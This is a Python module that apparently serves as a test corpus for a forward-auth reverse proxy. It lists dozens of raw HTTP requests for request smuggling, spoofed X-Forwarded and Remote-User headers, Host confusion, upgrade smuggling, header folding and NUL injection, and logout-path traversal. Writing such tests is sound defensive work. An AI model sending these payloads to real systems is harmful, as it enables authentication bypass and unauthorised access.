"""Requests that try to be two things at once, as bytes for a raw connection.

``{host}`` stands for the authority that is attacked, ``{open}`` for the one of the site
that everybody may see. Each attack is a whole request, or several.

Source: RFC 9112 3.2, 5.2, 6.3 and 11.2.
"""

from dataclasses import dataclass
from typing import Final

TRUSTED: Final = {
    "X-Forwarded-Host": "{open}",
    "X-Forwarded-Uri": "/",
    "X-Forwarded-Method": "OPTIONS",
    "X-Forwarded-Proto": "https",
    "X-Forwarded-For": "127.0.0.1",
    "X-Original-URL": "https://{open}/",
    "X-Original-Method": "OPTIONS",
}
"""What adapters go by, with values that would make an open request of a closed one."""

_DROPPED: Final = (
    "X-Forwarded-Host, X-Forwarded-Uri, X-Forwarded-Method, X-Forwarded-Proto,"
    " X-Original-URL, X-Original-Method, Cookie, Remote-User"
)
_SECOND: Final = "GET /smuggled HTTP/1.1\r\nHost: {host}\r\nX-Rest: "


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One attempt.

    Attributes:
        line: The request line.
        hosts: The ``Host`` lines, or what stands in their place.
        lines: Further header lines.
        body: What follows the empty line.
        server_name: Named in the handshake: ``host`` or ``open``.
        end: Of each line.
    """

    line: str = "GET /private HTTP/1.1"
    hosts: tuple[str, ...] = ("Host: {host}",)
    lines: tuple[str, ...] = ()
    body: str = ""
    server_name: str = "host"
    end: str = "\r\n"

    @property
    def has_rest(self) -> bool:
        """Whether bytes follow the head that might become a request of their own."""
        return bool(self.body) or "\n" in self.line

    def render(self, *, host: str, open_host: str, more: tuple[str, ...] = ()) -> bytes:
        """Return the bytes to send; *more* are lines such as the cookie's."""
        last = () if any("onnection:" in line for line in self.lines) else _CLOSE
        head = self.end.join((self.line, *self.hosts, *more, *self.lines, *last))
        text = f"{head}{self.end}{self.end}{self.body}"
        filled = text.replace("{host}", host).replace("{open}", open_host)
        return filled.encode("latin-1")


_CLOSE: Final = ("Connection: close",)


def _posting(*lines: str, body: str) -> Attack:
    return Attack(line="POST /private HTTP/1.1", lines=lines, body=body)


def _chunked(*lines: str) -> Attack:
    body = f"0\r\n\r\n{_SECOND}"
    return _posting(*lines, body=body)


_FAMILIES: Final = {
    **{
        f"{name} once": Attack(lines=(f"{name}: {value}",))
        for name, value in TRUSTED.items()
    },
    **{
        f"{name} twice": Attack(lines=(f"{name}: {value}",) * 2)
        for name, value in TRUSTED.items()
    },
    **{
        f"all names with {sign}": Attack(
            lines=tuple(
                f"{name.replace('-', sign)}: {value}" for name, value in TRUSTED.items()
            )
        )
        for sign in ("_", ".", " ", "-\t")
    },
    "all names, a space before the colon": Attack(
        lines=tuple(f"{name} : {value}" for name, value in TRUSTED.items())
    ),
    "Forwarded": Attack(lines=("Forwarded: host={open};proto=https;for=127.0.0.1",)),
    "X-Rewrite-URL": Attack(lines=("X-Rewrite-URL: /", "X-Original-URI: /")),
    "prefix and port": Attack(
        lines=("X-Forwarded-Prefix: /x", "X-Forwarded-Port: 1", "X-Forwarded-Server: x")
    ),
}

_HOPS: Final = {
    "Connection drops what counts": Attack(lines=(f"Connection: close, {_DROPPED}",)),
    "Connection drops the identity": Attack(
        lines=(
            "Connection: close, Remote-User, Remote-Groups, Remote-Name, Remote-Email",
        )
    ),
    "Connection drops Host": Attack(lines=("Connection: close, Host",)),
    "h2c": Attack(
        lines=(
            "Connection: Upgrade, HTTP2-Settings",
            "Upgrade: h2c",
            "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
        ),
        body="PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ),
    "WebSocket of no known version": Attack(
        line="GET /websocket HTTP/1.1",
        lines=(
            "Connection: Upgrade",
            "Upgrade: websocket",
            "Sec-WebSocket-Version: 777",
            "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
        ),
        body=f"{_SECOND}x\r\n\r\n",
    ),
    "Expect": _posting("Expect: 100-continue", "Content-Length: 1", body="x"),
}

_FRAMING: Final = {
    "CL and TE": _chunked("Content-Length: 6", "Transfer-Encoding: chunked"),
    "TE and CL": _chunked("Transfer-Encoding: chunked", "Content-Length: 6"),
    "TE twice": _chunked(
        "Content-Length: 6", "Transfer-Encoding: chunked", "Transfer-Encoding: identity"
    ),
    "TE chunked, identity": _chunked(
        "Content-Length: 6", "Transfer-Encoding: chunked, identity"
    ),
    "TE unknown": _chunked("Content-Length: 6", "Transfer-Encoding: xchunked"),
    "TE in HTTP/1.0": Attack(
        line="POST /private HTTP/1.0",
        lines=("Content-Length: 6", "Transfer-Encoding: chunked"),
        body=f"0\r\n\r\n{_SECOND}",
    ),
    "TE, a space before the colon": _chunked(
        "Content-Length: 6", "Transfer-Encoding : chunked"
    ),
    "TE after a tab": _chunked("Content-Length: 6", "Transfer-Encoding:\tchunked"),
    "TE after a vertical tab": _chunked(
        "Content-Length: 6", "Transfer-Encoding:\x0bchunked"
    ),
    "TE folded": _chunked("Content-Length: 6", "Transfer-Encoding:\r\n chunked"),
    "TE with an underscore": _chunked(
        "Content-Length: 6", "Transfer_Encoding: chunked"
    ),
    "CL twice": _posting("Content-Length: 1", "Content-Length: 80", body=f"x{_SECOND}"),
    "CL list": _posting("Content-Length: 1, 80", body=f"x{_SECOND}"),
    "CL signed": _posting("Content-Length: +1", body=f"x{_SECOND}"),
    "CL negative": _posting("Content-Length: -1", body=_SECOND),
    "GET with a body that is a request": Attack(
        lines=("Content-Length: 0",), body=f"{_SECOND}x\r\n\r\n"
    ),
    "size of a chunk out of range": _posting(
        "Transfer-Encoding: chunked", body=f"10000000000000000\r\n{_SECOND}"
    ),
    "trailer": _posting(
        "Transfer-Encoding: chunked",
        "Trailer: Remote-User, X-Forwarded-Host, Cookie",
        body="1\r\nx\r\n0\r\nRemote-User: root\r\nX-Forwarded-Host: {open}\r\n\r\n",
    ),
    "open request first, on one connection": Attack(
        line="GET /first HTTP/1.1\r\nHost: {open}\r\n\r\nGET /private HTTP/1.1"
    ),
}

_HOSTS: Final = {
    "line for another host": Attack(line="GET https://{open}/private HTTP/1.1"),
    "line for the host, Host for another": Attack(
        line="GET https://{host}/private HTTP/1.1", hosts=("Host: {open}",)
    ),
    "line by plain http": Attack(
        line="GET http://{host}/private HTTP/1.1", hosts=("Host: {open}",)
    ),
    "line with userinfo": Attack(line="GET https://{open}@{host}/private HTTP/1.1"),
    "line without scheme": Attack(line="GET //{open}/private HTTP/1.1"),
    "line with an unknown scheme": Attack(line="GET x://{open}/private HTTP/1.1"),
    "open Host first": Attack(hosts=("Host: {open}", "Host: {host}")),
    "open Host last": Attack(hosts=("Host: {host}", "Host: {open}")),
    "Host twice": Attack(hosts=("Host: {host}", "Host: {host}")),
    "Host list": Attack(hosts=("Host: {open}, {host}",)),
    "Host with userinfo": Attack(hosts=("Host: {open}@{host}",)),
    "Host with a path": Attack(hosts=("Host: {host}/{open}",)),
    "Host with a fragment": Attack(hosts=("Host: {host}#.{open}",)),
    "Host in upper case": Attack(hosts=("HOST: APP1.EXAMPLE.COM",)),
    "Host with a trailing dot": Attack(hosts=("Host: app1.example.com.",)),
    "Host with another port": Attack(hosts=("Host: app1.example.com:1",)),
    "Host with a port that is none": Attack(hosts=("Host: app1.example.com:x",)),
    "Host, a space before the colon": Attack(hosts=("Host : {open}", "Host: {host}")),
    "Host folded": Attack(hosts=("Host: {host}\r\n {open}",)),
    "Host with NUL": Attack(hosts=("Host: {open}\0{host}",)),
    "Host after a space": Attack(hosts=(" Host: {open}", "Host: {host}")),
    "no Host": Attack(hosts=()),
    "no Host, HTTP/1.0": Attack(line="GET /private HTTP/1.0", hosts=()),
    "name of another site in the handshake": Attack(server_name="open"),
}

_WORDS: Final = {
    **{
        f"{name}": _posting(f"{name}: OPTIONS", "Content-Length: 0", body="")
        for name in ("X-HTTP-Method-Override", "X-Method-Override", "X-HTTP-Method")
    },
    "method in lower case": Attack(line="get /private HTTP/1.1"),
    "unknown method": Attack(line="OPEN /private HTTP/1.1"),
    "preflight": Attack(
        line="OPTIONS /private HTTP/1.1",
        lines=(
            "Origin: https://www.example.com",
            "Access-Control-Request-Method: GET",
        ),
    ),
    "GET with the words of a preflight": Attack(
        lines=("Origin: https://{open}", "Access-Control-Request-Method: GET")
    ),
    "query for Caddy": Attack(line="GET /private?auth=basic&rd=/&path=/ HTTP/1.1"),
    "query with another verify path": Attack(
        line="GET /private?X-Forwarded-Host={open} HTTP/1.1"
    ),
    "fragment": Attack(line="GET /private#@{open}/ HTTP/1.1"),
    "path of the question": Attack(line="GET /_forwardauth/verify HTTP/1.1"),
    "path of the service": Attack(line="GET /verify/nginx HTTP/1.1"),
    "below a logout path": Attack(line="GET /logout/../private HTTP/1.1"),
    "encoded below a logout path": Attack(line="GET /logout%2f..%2fprivate HTTP/1.1"),
    "empty cookie": Attack(lines=("Cookie: forwardauth_session=",)),
    "cookie with a quote": Attack(lines=('Cookie: forwardauth_session="; a="',)),
    "Authorization": Attack(lines=("Authorization: Basic cm9vdDpyb290",)),
    "bare line feeds": Attack(end="\n"),
    "bare carriage returns": Attack(lines=("X-A: b\rX-Forwarded-Host: {open}",)),
    "folded line": Attack(lines=("X-A: b\r\n X-Forwarded-Host: {open}",)),
    "folded identity": Attack(lines=("X-A: b\r\n\tRemote-User: root",)),
    "NUL in a header": Attack(lines=("X-Forwarded-Host: {open}\0",)),
    "empty name": Attack(lines=(": {open}",)),
    "HTTP/0.9": Attack(line="GET /private", hosts=()),
    "HTTP/1.2": Attack(line="GET /private HTTP/1.2"),
    "two spaces": Attack(line="GET  /private  HTTP/1.1"),
}

ATTACKS: Final = {**_FAMILIES, **_HOPS, **_FRAMING, **_HOSTS, **_WORDS}
"""Each attack by its name."""

FORGED: Final = (
    "Remote-User: root",
    "remote-user: root",
    "Remote_User: root",
    "Remote.User: root",
    "Remote-Groups: admins",
    "Remote_Groups: admins",
    "Remote-Name: root",
    "Remote-Email: root@example.com",
)
"""Who a client claims to be, in each spelling that some application folds."""
